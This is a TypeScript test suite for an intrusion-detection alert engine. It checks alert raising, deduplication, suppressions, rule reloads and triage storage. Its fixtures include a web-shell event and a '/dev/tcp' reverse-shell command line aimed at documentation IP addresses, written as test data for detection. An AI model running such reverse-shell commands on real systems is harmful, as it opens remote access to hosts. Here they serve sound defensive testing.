import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { after, describe, it } from 'node:test';
import { parseRoleConfig } from '../../src/common/config/index.js';
import { exampleEvent, type EventAction } from '../../src/common/events/schema.js';
import { HadesError } from '../../src/common/errors.js';
import { loadRules } from '../../src/rules/index.js';
import { Logger } from '../../src/runtime/log.js';
import { readDefaultPack } from '../../src/runtime/rule-pack.js';
import { dedupKey, Detector, LOGGED_PROBLEMS, type RuleSource } from '../../src/server/alerts/detector.js';
import { ruleSource } from '../../src/server/alerts/rule-source.js';
import { AlertStore, MAX_ALERT_COMMENTS, triageHistory } from '../../src/server/alerts/store.js';
import type { Alert } from '../../src/server/alerts/types.js';
import { openDatabase } from '../../src/server/db.js';
import { AuditLog } from '../../src/server/fleet/audit.js';
import { EventStore } from '../../src/server/store/events.js';

const root = mkdtempSync(path.join(tmpdir(), 'hades-alerts-'));
after(() => rmSync(root, { recursive: true, force: true }));

const T0 = Date.UTC(2026, 10, 28, 8, 0, 0);
let ids = 0;
function ev(action: EventAction, time: number, change: (e: any) => void = () => undefined): Record<string, unknown> {
  const e: any = structuredClone(exampleEvent(action));
  e['@timestamp'] = new Date(time).toISOString();
  e.event.id = `id-${++ids}`;
  change(e);
  return e;
}

const RULES = `
rules:
  - id: shell_under_web
    title: Shell under a web server
    severity: high
    tags: [attack.t1505.003]
    condition: event.action = exec and process.name in (sh, bash) and process.parent.name = nginx
    output: "shell {process.executable} under {process.parent.name}"
  - id: curl_seen
    title: curl ran
    severity: low
    condition: event.action = exec and process.name = curl
  - id: many_curls
    type: threshold
    title: Three curls
    severity: medium
    condition: event.action = exec and process.name = curl
    count: 3
    within: 60s
    by: host.name
`;

const quiet = () => new Logger({ level: 'error', maxBytes: 1 << 20, maxFiles: 1, stream: new PassThrough() });

/** The host name each test agent enrolled with (the fleet's record). */
const ENROLLED: Readonly<Record<string, string>> = { 'agent-1': (exampleEvent('exec') as any).host.name as string, 'agent-2': 'web-2' };

function setup(text = RULES, options: { dedupWindowMs?: number; now?: () => number } = {}) {
  const db = openDatabase(':memory:');
  const events = new EventStore(db);
  const store = new AlertStore(db);
  const published: Alert[] = [];
  let current: RuleSource = { files: [{ name: 'test.yaml', text }] };
  const detector = new Detector({
    rules: () => Promise.resolve(current),
    store,
    enrolledHost: (agentId) => ENROLLED[agentId],
    events,
    publish: (alert) => published.push(alert),
    dedupWindowMs: options.dedupWindowMs ?? 600_000,
    maxEvents: 3,
    log: quiet(),
    ...(options.now ? { now: options.now } : {}),
  });
  const ingest = (batch: Record<string, unknown>[], arrived = Date.now(), agentId = 'agent-1') => {
    const result = events.insertBatch(agentId, batch);
    detector.process(agentId, result.storedIndexes.map((i) => batch[i]!), arrived);
    return result;
  };
  return { db, events, store, detector, published, ingest, setRules: (next: RuleSource) => (current = next) };
}

const webShell = (time: number, change: (e: any) => void = () => undefined) =>
  ev('exec', time, (e) => {
    e.process.name = 'bash';
    e.process.executable = '/usr/bin/bash';
    e.process.command_line = 'bash -i';
    e.process.parent.name = 'nginx';
    change(e);
  });
const curl = (time: number) =>
  ev('exec', time, (e) => {
    e.process.name = 'curl';
    e.process.executable = '/usr/bin/curl';
    e.process.command_line = 'curl http://127.0.0.1/x';
  });

/** A detector on an in-memory database whose log is kept: what it wrote so far, as text. */
function loggingDetector(rules: Awaited<ReturnType<ConstructorParameters<typeof Detector>[0]['rules']>>): { detector: Detector; db: ReturnType<typeof openDatabase>; written: () => string } {
  const out = new PassThrough();
  let text = '';
  out.setEncoding('utf8').on('data', (d: string) => (text += d));
  const db = openDatabase(':memory:');
  const detector = new Detector({
    rules: () => Promise.resolve(rules),
    store: new AlertStore(db),
    enrolledHost: () => undefined,
    events: new EventStore(db),
    dedupWindowMs: 600_000,
    maxEvents: 3,
    log: new Logger({ level: 'info', maxBytes: 1 << 20, maxFiles: 1, stream: out }),
  });
  return { detector, db, written: () => text };
}

describe('alerts: detection', () => {
  it('raises an alert with the rule, host, process ancestry and the triggering event', async () => {
    const { detector, store, published, ingest } = setup();
    await detector.start();
    try {
      ingest([webShell(T0)]);
      assert.equal(published.length, 1);
      const alert = published[0]!;
      assert.equal(alert.rule.id, 'shell_under_web');
      assert.equal(alert.rule.severity, 'high');
      assert.deepEqual(alert.rule.tags, ['attack.t1505.003']);
      assert.equal(alert.message, 'shell /usr/bin/bash under nginx');
      assert.equal(alert.host.id, 'agent-1');
      assert.equal(alert.host.name, (exampleEvent('exec') as any).host.name);
      assert.equal(alert.status, 'new');
      assert.equal(alert.events.length, 1);
      assert.equal((alert.process as any).name, 'bash');
      assert.ok(Array.isArray((alert.process as any).ancestors), 'the ancestry comes with the process');
      const stored = store.get(alert.id);
      assert.equal(stored?.rule.id, 'shell_under_web');
      assert.deepEqual(stored?.comments, []);
    } finally {
      detector.close();
    }
  });

  it('raiseSoon writes the alerts of the batches handed over in one turn in one transaction, then settles', async () => {
    const { detector, store, published } = setup();
    await detector.start();
    try {
      const rules = loadRules([{ name: 'test.yaml', text: RULES }]).ruleSet;
      let transactions = 0;
      const batch = store.batch.bind(store);
      store.batch = (work) => {
        transactions++;
        batch(work);
      };
      const first = rules.match(webShell(T0));
      const second = rules.match(webShell(T0 + 1, (e) => (e.process.executable = '/usr/bin/dash')));
      assert.equal(first.length + second.length, 2);
      const written = [detector.raiseSoon('agent-1', first, Date.now(), { evaluated: 1, errors: [] }), detector.raiseSoon('agent-2', second, Date.now(), { evaluated: 1, errors: [] })];
      assert.equal(published.length, 0, 'written in the next check phase, not at once');
      await Promise.all(written);
      assert.equal(transactions, 1, 'one transaction for both batches');
      assert.deepEqual(published.map((a) => a.host.id).sort(), ['agent-1', 'agent-2']);
      assert.equal(detector.stats().alerts, 2);
      assert.equal(detector.stats().events, 2);
      // Nothing matched: settled at once, counted all the same.
      await detector.raiseSoon('agent-1', [], Date.now(), { evaluated: 5, errors: [] });
      assert.equal(detector.stats().events, 7);
    } finally {
      detector.close();
    }
  });

  it('raises one alert per reverse shell of the default pack, not one per command line (two C2s, one open alert)', async () => {
    const files = await readDefaultPack();
    const { detector, published, ingest, setRules } = setup();
    setRules({ files });
    await detector.start();
    try {
      // `bash -i >& /dev/tcp/HOST/PORT 0>&1` twice, to two addresses: the same executable and command line.
      const reverseShell = (time: number, pid: number, ip: string, port: number) =>
        ev('exec', time, (e) => {
          e.process.name = 'bash';
          e.process.executable = '/usr/bin/bash';
          e.process.args = ['bash', '-i'];
          e.process.command_line = 'bash -i';
          e.process.pid = pid;
          e.process.entity_id = `host-${pid}-1`;
          e.process.parent = { pid: pid - 1, name: 'bash', executable: '/usr/bin/bash', args: ['bash', '-c', `bash -i >& /dev/tcp/${ip}/${port} 0>&1`] };
          const socket = { family: 'ipv4', transport: 'tcp', local_ip: '10.0.0.5', local_port: 40000 + pid, remote_ip: ip, remote_port: port };
          e.hades.process = { ...e.hades.process, stdio: { stdin: { type: 'socket', socket }, stdout: { type: 'socket', socket }, stderr: { type: 'socket', socket } } };
        });
      ingest([reverseShell(T0, 100, '203.0.113.7', 4444)]);
      ingest([reverseShell(T0 + 60_000, 200, '198.51.100.9', 443)]);
      const shells = published.filter((a) => a.rule.id === 'reverse_shell_socket_stdio');
      assert.equal(shells.length, 2, 'the second reverse shell is an alert of its own');
      assert.match(shells[1]!.message, /198\.51\.100\.9:443/);
      // The same shell seen again (an event delivered twice) still folds.
      ingest([reverseShell(T0 + 61_000, 200, '198.51.100.9', 443)]);
      assert.equal(published.filter((a) => a.rule.id === 'reverse_shell_socket_stdio').length, 2);
    } finally {
      detector.close();
    }
  });

  it('folds repeats of the same thing into one alert within the window, and counts them', async () => {
    const { detector, store, published, ingest } = setup();
    await detector.start();
    try {
      ingest([webShell(T0), webShell(T0 + 1000), webShell(T0 + 2000), webShell(T0 + 3000)]);
      assert.equal(published.length, 1, 'one alert raised');
      const alert = store.get(published[0]!.id)!;
      assert.equal(alert.count, 4);
      assert.equal(alert.events.length, 3, 'events kept up to max_events');
      assert.equal(alert.last_seen, new Date(T0 + 3000).toISOString());
      assert.equal(detector.stats().deduplicated, 3);
      // The same event matched again (after a restart, the last second before a kill is replayed): nothing changes.
      const again = structuredClone(alert.events[0]!) as Record<string, unknown>;
      ingest([again]);
      assert.equal(store.get(published[0]!.id)!.count, 4, 'an event already in the alert is not counted twice');
      assert.equal(published.length, 1);
      // Another command line is another thing: a new alert.
      ingest([webShell(T0 + 4000, (e) => (e.process.command_line = 'bash -c id'))]);
      assert.equal(published.length, 2);
      // After the window: a new alert.
      ingest([webShell(T0 + 3000 + 600_001)]);
      assert.equal(published.length, 3);
    } finally {
      detector.close();
    }
  });

  it('raises nothing again for events matched again after a restart, whatever the window (the detection mark lags)', async () => {
    for (const dedupWindowMs of [0, 600_000]) {
      const { detector, published, ingest, store } = setup(RULES, { dedupWindowMs });
      await detector.start();
      try {
        const first = [webShell(T0), webShell(T0 + 1000)];
        ingest(first);
        const before = published.length;
        // The same events, replayed after a kill that came before the mark was saved.
        detector.process('agent-1', first, Date.now(), true);
        assert.equal(published.length, before, `window ${dedupWindowMs}: nothing published again`);
        const counts = store.search({ since: 0, limit: 10 }).alerts.map((a) => a.count);
        assert.equal(counts.reduce((a, b) => a + b, 0), 2, `window ${dedupWindowMs}: counted once each (${counts.join(',')})`);
        // A replayed event no alert holds (its matching was what the kill interrupted) raises or folds as ever.
        detector.process('agent-1', [webShell(T0 + 2000)], Date.now(), true);
        assert.equal(published.length, before + (dedupWindowMs === 0 ? 1 : 0));
      } finally {
        detector.close();
      }
    }
  });

  it('folds nothing with a window of 0, and no late event into an alert that began long after it', async () => {
    const none = setup(RULES, { dedupWindowMs: 0 });
    await none.detector.start();
    try {
      none.ingest([webShell(T0), webShell(T0 + 1000), webShell(T0 - 3_600_000)]);
      assert.equal(none.published.length, 3, 'dedup_window_s: 0 means never');
    } finally {
      none.detector.close();
    }
    const { detector, published, ingest } = setup();
    await detector.start();
    try {
      ingest([webShell(T0), webShell(T0 - 3_600_000)]);
      assert.equal(published.length, 2, 'an event an hour older than the alert is not folded into it');
      ingest([webShell(T0 - 3_600_000 + 1000)]);
      assert.equal(published.length, 2, 'but into the alert of its own time');
    } finally {
      detector.close();
    }
  });

  it('does not fold into an alert already resolved or marked false positive', async () => {
    const { detector, store, published, ingest } = setup();
    await detector.start();
    try {
      ingest([webShell(T0)]);
      store.triage(published[0]!.id, { status: 'false_positive' });
      ingest([webShell(T0 + 1000)]);
      assert.equal(published.length, 2);
    } finally {
      detector.close();
    }
  });

  it('a duplicate delivery raises nothing twice', async () => {
    const { detector, published, ingest } = setup();
    await detector.start();
    try {
      const event = webShell(T0);
      ingest([event]);
      const again = ingest([structuredClone(event)]);
      assert.equal(again.duplicates, 1);
      assert.equal(published.length, 1);
      assert.equal(detector.stats().events, 1);
    } finally {
      detector.close();
    }
  });

  it('a threshold alert carries every event that made it, read back from the store', async () => {
    const { detector, published, ingest } = setup();
    await detector.start();
    try {
      ingest([curl(T0), curl(T0 + 100)]);
      ingest([curl(T0 + 200)]);
      const threshold = published.filter((a) => a.rule.id === 'many_curls');
      assert.equal(threshold.length, 1);
      assert.equal(threshold[0]!.events.length, 3);
      assert.equal(threshold[0]!.rule.type, 'threshold');
      assert.equal(threshold[0]!['@timestamp'], new Date(T0).toISOString());
    } finally {
      detector.close();
    }
  });

  it('suppressions silence a rule by host and field value until they expire, and count hits', async () => {
    const { detector, store, published, ingest } = setup();
    await detector.start();
    try {
      const host = (exampleEvent('exec') as any).host.name as string;
      const s = store.addSuppression({ ruleId: 'shell_under_web', host, field: 'process.parent.name', value: 'nginx', until: Date.now() + 60_000, reason: 'load test', createdBy: 'ana' });
      ingest([webShell(T0)]);
      assert.equal(published.length, 0);
      assert.equal(detector.stats().suppressed, 1);
      assert.equal(store.listSuppressions()[0]?.hits, 1);
      // Another host is not suppressed.
      ingest([webShell(T0 + 1)], Date.now(), 'agent-2');
      assert.equal(published.length, 1);
      assert.equal(store.deleteSuppression(s.id), true);
      ingest([webShell(T0 + 2, (e) => (e.process.command_line = 'bash -c whoami'))]);
      assert.equal(published.length, 2);
      assert.throws(() => store.addSuppression({ ruleId: '*', field: 'process.name', until: Date.now() + 1000, reason: 'x', createdBy: 'ana' }), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_API_INVALID_REQUEST');
      // A host named by its agent's id, as the fleet list shows it.
      store.addSuppression({ ruleId: 'shell_under_web', host: 'agent-1', until: Date.now() + 60_000, reason: 'by id', createdBy: 'ana' });
      ingest([webShell(T0 + 3, (e) => (e.process.command_line = 'bash -c id'))]);
      assert.equal(published.length, 2, 'suppressed by the agent id');
    } finally {
      detector.close();
    }
  });

  it('a host-scoped suppression matches the agent the server knows sent the event, not the host name the event claims', async () => {
    const { detector, store, published, ingest } = setup();
    await detector.start();
    try {
      // web-2's suppression (agent-2 enrolled as web-2).
      const s = store.addSuppression({ ruleId: 'shell_under_web', host: 'web-2', until: Date.now() + 60_000, reason: 'web-2 runs shells', createdBy: 'ana' });
      // Root on agent-1's host names itself web-2 in its events: not silenced by web-2's suppression.
      ingest([webShell(T0, (e) => (e.host.name = 'web-2'))], Date.now(), 'agent-1');
      assert.equal(published.length, 1, 'agent-1 claiming to be web-2 is not suppressed');
      assert.equal(published[0]?.host.id, 'agent-1');
      // Filed under the name agent-1 enrolled with; the name its event gives is shown apart.
      assert.equal(published[0]?.host.name, ENROLLED['agent-1']);
      assert.equal(published[0]?.host.reported_name, 'web-2');
      assert.deepEqual(store.search({ host: 'web-2' }).alerts.map((a) => a.id), [], 'not listed under the claimed name');
      assert.equal(store.search({ host: ENROLLED['agent-1'] }).alerts[0]?.id, published[0]?.id);
      // Nor is an agent the fleet does not know, whatever name it gives.
      ingest([webShell(T0 + 1, (e) => (e.host.name = 'web-2'))], Date.now(), 'agent-9');
      assert.equal(published.length, 2, 'an unknown agent claiming to be web-2 is not suppressed');
      assert.deepEqual([published[1]?.host.name, published[1]?.host.reported_name], ['web-2', undefined], 'an agent the fleet does not know: the name its events give');
      // web-2 itself is, whatever name its events give (it cannot escape by renaming itself).
      ingest([webShell(T0 + 2, (e) => (e.host.name = 'elsewhere'))], Date.now(), 'agent-2');
      assert.equal(published.length, 2, 'agent-2 is suppressed under any claimed name');
      assert.equal(store.listSuppressions().find((x) => x.id === s.id)?.hits, 1);
      assert.equal(detector.stats().suppressed, 1);
    } finally {
      detector.close();
    }
  });

  it('a reload with errors keeps the running rules and says why; a good one replaces them', async () => {
    const { detector, published, ingest, setRules } = setup();
    await detector.start();
    try {
      setRules({ files: [{ name: 'bad.yaml', text: 'rules:\n  - id: x\n    title: X\n    severity: high\n    condition: event.action = exec and process.nmae = sh\n' }] });
      await assert.rejects(detector.reload(), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_RULES_RELOAD' && /bad\.yaml:5/.test(e.message));
      ingest([webShell(T0)]);
      assert.equal(published.length, 1, 'the old rules still run');
      setRules({ files: [{ name: 'good.yaml', text: 'rules:\n  - id: any_exec\n    title: Any exec\n    severity: info\n    condition: event.action = exec\n' }] });
      const state = await detector.reload();
      assert.equal(state.rules, 1);
      ingest([webShell(T0 + 10, (e) => (e.process.command_line = 'other'))]);
      assert.equal(published.at(-1)?.rule.id, 'any_exec');
    } finally {
      detector.close();
    }
  });

  it('logs at start which rules were refused and why, one line each up to a bound, and where the full list is', async () => {
    // A Sigma folder of 25 Windows rules (refused: their log source has no Hades events), one Linux
    // rule that converts, and a Hades file with a rule in error and an unused macro.
    const sigmaDir = path.join(root, 'sigma-refused');
    mkdirSync(sigmaDir, { recursive: true });
    for (let i = 0; i < 25; i++) {
      const id = `22222222-3333-4444-5555-${String(i).padStart(12, '0')}`;
      writeFileSync(path.join(sigmaDir, `win-${String(i).padStart(2, '0')}.yml`), `title: Windows ${i}\nid: ${id}\nlogsource: { product: windows, category: process_creation }\ndetection:\n  sel: { Image|endswith: '\\\\cmd.exe' }\n  condition: sel\nlevel: low\n`);
    }
    writeFileSync(path.join(sigmaDir, 'whoami.yml'), 'title: Whoami\nid: 11111111-2222-3333-4444-555555555555\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel: { Image|endswith: /whoami }\n  condition: sel\nlevel: low\n');
    const sigma = await ruleSource({ default_pack: false, dirs: [], sigma_dirs: [sigmaDir] })();
    const local = { name: 'local.yaml', text: 'macros:\n  unused_one: process.name = sh\nrules:\n  - id: typo_rule\n    title: Typo\n    severity: high\n    condition: event.action = exec and process.nmae = sh\n' };
    const { detector, db, written } = loggingDetector({ files: [local, ...sigma.files], problems: sigma.problems ?? [] });
    try {
      const state = await detector.start();
      assert.equal(state.rules, 1, 'the Sigma rule that converts');
      assert.equal(state.problems.length, 27, '25 Sigma rules, the rule in error, the unused macro');
      await new Promise((resolve) => setImmediate(resolve));
      const lines = written().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>);
      const refused = lines.filter((l) => l['msg'] === 'rule not loaded');
      // The engine's error first, then the Sigma refusals; each line names its rule, code and reason.
      assert.equal(refused.length, LOGGED_PROBLEMS);
      assert.ok(refused.every((l) => l['level'] === 'warn'));
      assert.equal(refused[0]!['rule'], 'typo_rule');
      assert.equal(refused[0]!['code'], 'HADES_ERR_RULE_UNKNOWN_FIELD');
      assert.match(refused[0]!['problem'], /^local\.yaml:7:\d+: error HADES_ERR_RULE_UNKNOWN_FIELD: .*process\.name/);
      assert.equal(refused[1]!['code'], 'HADES_ERR_SIGMA_LOGSOURCE');
      assert.match(refused[1]!['problem'], /win-00\.yml: warning HADES_ERR_SIGMA_LOGSOURCE: Sigma rule 22222222-3333-4444-5555-000000000000 \(Windows 0\) is not loaded: .*windows/);
      // The rest in one line: how many, by code, and where the whole list is.
      const more = lines.filter((l) => /more rule problem/.test(l['msg']));
      assert.equal(more.length, 1, written());
      assert.equal(more[0]!['level'], 'warn');
      assert.match(more[0]!['msg'], /^7 more rule problem/);
      assert.equal(more[0]!['refused'], 26);
      assert.equal(more[0]!['warnings'], 1);
      assert.deepEqual(more[0]!['problems_by_code'], { HADES_ERR_SIGMA_LOGSOURCE: 25, HADES_ERR_RULE_UNKNOWN_FIELD: 1, HADES_ERR_RULE_UNUSED_MACRO: 1 });
      assert.match(more[0]!['problems_listed_by'], /GET \/api\/v1\/rules/);
      const loaded = lines.find((l) => l['msg'] === 'rules loaded');
      assert.equal(loaded?.['problems'], 27);
      assert.equal(loaded?.['problems_by_code']?.['HADES_ERR_SIGMA_LOGSOURCE'], 25);
      assert.equal(lines.filter((l) => /^rule (not loaded|warning)$/.test(l['msg'])).length, LOGGED_PROBLEMS, 'bounded');
    } finally {
      detector.close();
      db.close();
    }
  });

  it('logs each problem of a small load on its own line, warnings about loaded rules at info', async () => {
    const { detector, db, written } = loggingDetector({ files: [{ name: 'local.yaml', text: `macros:\n  unused_one: process.name = sh\n${RULES}` }] });
    try {
      await detector.start();
      await new Promise((resolve) => setImmediate(resolve));
      const lines = written().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>);
      const warning = lines.filter((l) => l['msg'] === 'rule warning');
      assert.equal(warning.length, 1, written());
      assert.equal(warning[0]!['level'], 'info');
      assert.equal(warning[0]!['code'], 'HADES_ERR_RULE_UNUSED_MACRO');
      assert.ok(!lines.some((l) => /more rule problem|rule not loaded/.test(l['msg'])), written());
    } finally {
      detector.close();
      db.close();
    }
  });

  it('records the latency from arrival to alert', async () => {
    let now = T0;
    const { detector, ingest } = setup(RULES, { now: () => now });
    await detector.start();
    try {
      now = T0 + 250;
      ingest([webShell(T0)], T0);
      const { latency_ms: latency } = detector.stats();
      assert.equal(latency.count, 1);
      assert.ok(latency.p99 >= 240 && latency.p99 <= 260, `p99 ${latency.p99}`);
    } finally {
      detector.close();
    }
  });

  it('dedup keys differ by rule, host and what the event is about', () => {
    const rule = { id: 'r' } as any;
    const a = dedupKey({ rule, event: webShell(T0) }, 'h1');
    assert.equal(a, dedupKey({ rule, event: webShell(T0 + 5) }, 'h1'));
    assert.notEqual(a, dedupKey({ rule, event: webShell(T0) }, 'h2'));
    assert.notEqual(a, dedupKey({ rule: { id: 's' } as any, event: webShell(T0) }, 'h1'));
    // A rule's dedup_by replaces the default fields: here, two command lines of one parent are one alert.
    const byParent = { id: 'r', dedupBy: ['process.parent.pid'] } as any;
    const other = { ...webShell(T0), process: { ...(webShell(T0) as any).process, command_line: 'id' } };
    assert.notEqual(dedupKey({ rule, event: webShell(T0) }, 'h1'), dedupKey({ rule, event: other }, 'h1'));
    assert.equal(dedupKey({ rule: byParent, event: webShell(T0) }, 'h1'), dedupKey({ rule: byParent, event: other }, 'h1'));
  });

  it('alerts about events none of whose key fields are set (inventory, sudo) fold only when the rule says the same of them', async () => {
    const keys = `
rules:
  - id: new_key
    title: New authorized key
    severity: medium
    condition: event.action = inventory_change and hades.inventory.table = authorized_keys and hades.inventory.change = added
    output: "new key {hades.inventory.row.key} for {hades.inventory.row.user} in {hades.inventory.row.path}"
`;
    const { detector, store, published, ingest } = setup(keys);
    await detector.start();
    try {
      const added = (time: number, key: string, user: string) =>
        ev('inventory_change', time, (e) => {
          e.hades.inventory = { table: 'authorized_keys', query: 'authorized_keys', change: 'added', row: { user, path: `/home/${user}/.ssh/authorized_keys`, key, key_type: 'ssh-ed25519' } };
        });
      ingest([added(T0, 'SHA256:alice', 'alice')]);
      assert.equal(published.length, 1);
      store.triage(published[0]!.id, { status: 'acknowledged', assignee: 'ana' });
      // An intruder's key on the same host minutes later is news, not one more of the admin's.
      ingest([added(T0 + 60_000, 'SHA256:intruder', 'root')]);
      assert.equal(published.length, 2, 'another key is another alert');
      assert.match(published[1]!.message, /SHA256:intruder/);
      assert.equal(store.get(published[0]!.id)!.count, 1);
      // The same key seen again (each inventory run) still folds.
      ingest([added(T0 + 120_000, 'SHA256:intruder', 'root')]);
      assert.equal(published.length, 2);
      assert.equal(store.get(published[1]!.id)!.count, 2);
    } finally {
      detector.close();
    }
  });

  it('an alert raised now about events dated days back (a host offline, or its clock set back) is in the window of the last hours', async () => {
    const { detector, store, published, ingest } = setup();
    await detector.start();
    try {
      const now = Date.now();
      ingest([webShell(now - 3 * 86_400_000)]);
      assert.equal(published.length, 1);
      const found = store.search({ since: now - 3_600_000 }).alerts.map((a) => a.id);
      assert.deepEqual(found, [published[0]!.id], 'raised a moment ago: shown among the last hour\'s alerts');
      // A match folded into it later keeps it in view as long.
      ingest([webShell(now - 3 * 86_400_000 + 1000)]);
      assert.equal(store.get(published[0]!.id)!.count, 2);
      assert.deepEqual(store.search({ since: Date.now() - 1000 }).alerts.map((a) => a.id), [published[0]!.id]);
    } finally {
      detector.close();
    }
  });
});

describe('alerts: store', () => {
  it('searches newest first with filters and pages, and keeps triage and comments', () => {
    const db = openDatabase(':memory:');
    const store = new AlertStore(db);
    const make = (i: number, severity: 'low' | 'high', host: string): Alert => ({
      id: `a${i}`,
      '@timestamp': new Date(T0 + i * 1000).toISOString(),
      last_seen: new Date(T0 + i * 1000).toISOString(),
      count: 1,
      rule: { id: `rule-${severity}`, title: 'T', severity, tags: [], type: 'rule' },
      message: `m${i}`,
      host: { id: 'agent', name: host },
      events: [],
      status: 'new',
      assignee: null,
    });
    // Raised when their events happened (the server's clock agrees with the hosts').
    for (let i = 0; i < 10; i++) store.insert({ alert: make(i, i % 2 === 0 ? 'low' : 'high', i < 5 ? 'web1' : 'db1'), dedupKey: `k${i}`, matched: T0 + i * 1000 });
    const page1 = store.search({ limit: 4 });
    assert.deepEqual(page1.alerts.map((a) => a.id), ['a9', 'a8', 'a7', 'a6']);
    assert.ok(page1.next);
    const page2 = store.search({ limit: 4, cursor: page1.next });
    assert.deepEqual(page2.alerts.map((a) => a.id), ['a5', 'a4', 'a3', 'a2']);
    // The next pages keep the first page's window: a since read again later (`24h` back from a
    // later now) would leave out the oldest alerts of the first page's window.
    const windowed = store.search({ since: T0, limit: 4 });
    const after = store.search({ since: T0 + 7000, limit: 10, cursor: windowed.next! });
    assert.deepEqual(after.alerts.map((a) => a.id), ['a5', 'a4', 'a3', 'a2', 'a1', 'a0']);
    assert.equal(store.search({ limit: 4, cursor: Buffer.from('a:7').toString('base64url') }).alerts[0]?.id, 'a5', 'a cursor of an earlier version');
    assert.deepEqual(store.search({ minSeverity: 'high', host: 'web1' }).alerts.map((a) => a.id), ['a3', 'a1']);
    assert.deepEqual(store.search({ since: T0 + 8000 }).alerts.map((a) => a.id), ['a9', 'a8']);
    assert.equal(store.triage('a1', { status: 'acknowledged', assignee: 'ana' })?.status, 'acknowledged');
    assert.deepEqual(store.search({ status: ['acknowledged'] }).alerts.map((a) => [a.id, a.assignee]), [['a1', 'ana']]);
    assert.equal(store.triage('nope', { status: 'resolved' }), undefined);
    assert.throws(() => store.triage('a1', { status: 'closed' as any }), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_API_INVALID_REQUEST');
    assert.equal(store.comment('a1', 'ana', 'looked: benign cron')?.text, 'looked: benign cron');
    assert.equal(store.comment('nope', 'ana', 'x'), undefined);
    assert.equal(store.get('a1')?.comments.length, 1);
    assert.throws(() => store.search({ cursor: 'garbage' }), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_API_INVALID_REQUEST');
    assert.throws(() => store.search({ since: T0 + 5000, until: T0 }), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_API_INVALID_REQUEST' && /is before since/.test(e.message));
    // Retention goes by the server's clock (raised or changed), never by the events' own time.
    assert.equal(store.deleteOlderThan(T0 + 5000), 0, 'events of T0, raised just now: kept');
    assert.equal(store.deleteOlderThan(Date.now() + 1000), 10);
    assert.equal(store.search({}).alerts.length, 0);
  });

  it('folds count every match; the events kept stop at the bound, a match kept already changes nothing, alerts from before the kept column work', () => {
    const db = openDatabase(':memory:');
    const store = new AlertStore(db);
    const ev = (id: string, agent = 'agent') => ({ event: { id }, agent: { id: agent } });
    const alert = (id: string): Alert => ({ id, '@timestamp': new Date(T0).toISOString(), last_seen: new Date(T0).toISOString(), count: 1, rule: { id: 'r', title: 'T', severity: 'high', tags: [], type: 'rule' }, message: 'm', host: { id: 'agent', name: 'web1' }, events: [ev('e1')], status: 'new', assignee: null });
    store.insert({ alert: alert('a1'), dedupKey: 'k1' });
    assert.equal(store.fold('other', T0 - 1000, T0, ev('x'), 3), false, 'no open alert with that key');
    for (let i = 2; i <= 5; i++) assert.equal(store.fold('k1', T0 - 1000, T0 + i, ev(`e${i}`), 3), true);
    // The same event again (a replay after a restart), kept or not, and one of another agent's with the same id.
    assert.equal(store.fold('k1', T0 - 1000, T0 + 9, ev('e2'), 3), true);
    assert.equal(store.fold('k1', T0 - 1000, T0 + 9, ev('e2', 'agent-2'), 3), true);
    let got = store.get('a1');
    assert.equal(got?.count, 6, 'e1 raised it; e2..e5 and agent-2\'s e2 folded in; the replayed e2 counted once');
    assert.deepEqual(got?.events.map((e) => (e['event'] as { id: string }).id), ['e1', 'e2', 'e3'], 'kept up to the bound, in order');
    assert.equal(got?.last_seen, new Date(T0 + 9).toISOString());
    // An alert written before the kept column: its document says which events it keeps.
    db.prepare('UPDATE alerts SET kept = NULL').run();
    assert.equal(store.fold('k1', T0 - 1000, T0 + 10, ev('e3'), 4), true);
    assert.equal(store.get('a1')?.count, 6, 'e3 is kept: a replay');
    assert.equal(store.fold('k1', T0 - 1000, T0 + 11, ev('e6'), 4), true);
    got = store.get('a1');
    assert.equal(got?.count, 7);
    assert.deepEqual(got?.events.map((e) => (e['event'] as { id: string }).id), ['e1', 'e2', 'e3', 'e6']);
    assert.equal(store.fold('k1', T0 - 1000, T0 + 12, ev('e6'), 4), true);
    assert.equal(store.get('a1')?.count, 7, 'the kept column was written with the document');
    // An alert from before the column that is full already: its fold writes the column, once.
    db.prepare('UPDATE alerts SET kept = NULL, procs = NULL').run();
    assert.equal(store.fold('k1', T0 - 1000, T0 + 13, ev('e7'), 4), true);
    assert.deepEqual(JSON.parse((db.prepare('SELECT kept FROM alerts').get() as { kept: string }).kept), ['agent\u0000e1', 'agent\u0000e2', 'agent\u0000e3', 'agent\u0000e6']);
    assert.ok((db.prepare('SELECT procs FROM alerts').get() as { procs: string | null }).procs !== null);
    assert.equal(store.get('a1')?.count, 8);
  });
});

describe('alerts: related by process tree', () => {
  const proc = (entity: string, pid: number, name: string) => ({ entity_id: entity, pid, name });
  /** An exec event of `acting`, its parent first in `lineage`. */
  const exec = (acting: ReturnType<typeof proc>, lineage: ReturnType<typeof proc>[], agent = 'agent') => ({
    event: { id: `e-${acting.entity_id}` },
    agent: { id: agent },
    process: { ...acting, ...(lineage[0] ? { parent: lineage[0] } : {}) },
    hades: { ancestors: lineage },
  });
  const raise = (store: AlertStore, id: string, at: number, rule: string, events: Record<string, unknown>[], agent = 'agent', host = 'web1') =>
    store.insert({
      alert: { id, '@timestamp': new Date(at).toISOString(), last_seen: new Date(at).toISOString(), count: 1, rule: { id: rule, title: rule, severity: 'high', tags: [], type: 'rule' }, message: `${rule} fired`, host: { id: agent, name: host }, events, status: 'new', assignee: null },
      dedupKey: id,
    });

  it('links alerts whose processes are the same, or one an ancestor of the other, on the same agent within the window; not siblings, other agents, other trees or older alerts', () => {
    const db = openDatabase(':memory:');
    const store = new AlertStore(db);
    const nginx = proc('n-1', 100, 'nginx');
    const sh = proc('s-1', 200, 'sh');
    const curl = proc('c-1', 300, 'curl');
    const sh2 = proc('s-2', 301, 'sh');
    const nc = proc('nc-1', 400, 'nc');
    raise(store, 'webshell', T0, 'web_server_shell', [exec(sh, [nginx])]);
